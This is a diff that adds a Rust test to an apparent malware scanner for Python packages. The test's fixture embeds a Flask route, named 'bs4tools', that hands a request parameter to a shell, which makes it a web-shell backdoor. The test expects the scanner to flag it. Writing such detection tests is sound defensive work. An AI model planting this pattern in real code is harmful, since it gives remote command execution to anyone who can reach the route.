@@ -800,3 +800,15 @@ fn a_builtin_fetched_by_getattr_and_called_behind_hidden_whitespace_is_malicious
     let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", &module)]);
     assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn a_web_route_that_runs_the_command_it_is_sent_is_malicious() {
+    // bs4tools: a Flask route that hands a query parameter to a shell.
+    let module = "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.route('/bs4')\ndef bs4():\n    out = subprocess.Popen(request.args.get('parser'), shell=True, stdout=subprocess.PIPE)\n    return out.communicate()[0]\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/tools.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A route that runs a fixed command is not.
+    let fixed = "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.route('/uptime')\ndef uptime():\n    return subprocess.run(['uptime'], capture_output=True).stdout\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/tools.py", fixed)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
